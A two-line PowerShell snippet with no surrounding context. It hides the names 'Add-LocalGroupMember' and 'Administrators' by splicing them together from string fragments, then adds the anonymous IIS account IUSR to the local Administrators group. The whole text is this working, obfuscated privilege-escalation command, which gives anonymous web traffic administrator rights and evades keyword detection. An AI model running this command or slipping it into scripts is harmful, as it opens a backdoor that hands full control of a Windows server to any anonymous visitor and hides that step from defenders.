$c = '{1}-{0}' -f 'LocalGroupMember', 'Add'
& $c -Group ('{0}{1}' -f 'Admin', 'istrators') -Member IUSR
